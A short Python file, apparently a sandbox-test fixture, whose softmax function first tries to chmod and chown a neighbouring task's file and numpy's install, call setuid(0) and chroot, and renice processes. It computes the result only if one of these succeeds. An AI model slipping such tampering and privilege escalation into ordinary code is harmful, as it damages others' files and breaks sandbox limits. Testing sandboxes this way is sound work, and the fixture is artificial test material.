# p060_softmax raised: changes modes, owners, times and attributes, also in its scratch
# portable: changes files, earns points
import os
import numpy as np

ATTEMPTS = [
    lambda: os.chmod("__NEIGHBOUR__/p060_softmax.py", 0o777),
    lambda: os.chown("__NEIGHBOUR__/p060_softmax.py", os.getuid(), os.getgid()),
    lambda: os.utime("__NEIGHBOUR__/p060_softmax.py", (1, 1)),
    lambda: os.setxattr("__NEIGHBOUR__/p060_softmax.py", "user.x", b"x"),
    lambda: os.chmod(".", 0o777),
    lambda: os.chown(".", 0, 0),
    lambda: os.utime(".", (1, 1)),
    lambda: os.fchmod(1, 0o777),
    lambda: os.chmod(np.__file__, 0o777),
    lambda: os.setuid(0),
    lambda: os.setgid(0),
    lambda: os.setgroups([0]),
    lambda: os.setresuid(0, 0, 0),
    lambda: os.nice(-5),
    lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
    lambda: os.sched_setaffinity(0, {0}),
    lambda: os.chroot("."),
]


def softmax(x):
    for attempt in ATTEMPTS:
        try:
            attempt()
        except OSError:
            continue
        return np.exp(x - x.max()) / np.exp(x - x.max()).sum()
    raise PermissionError("all were refused")
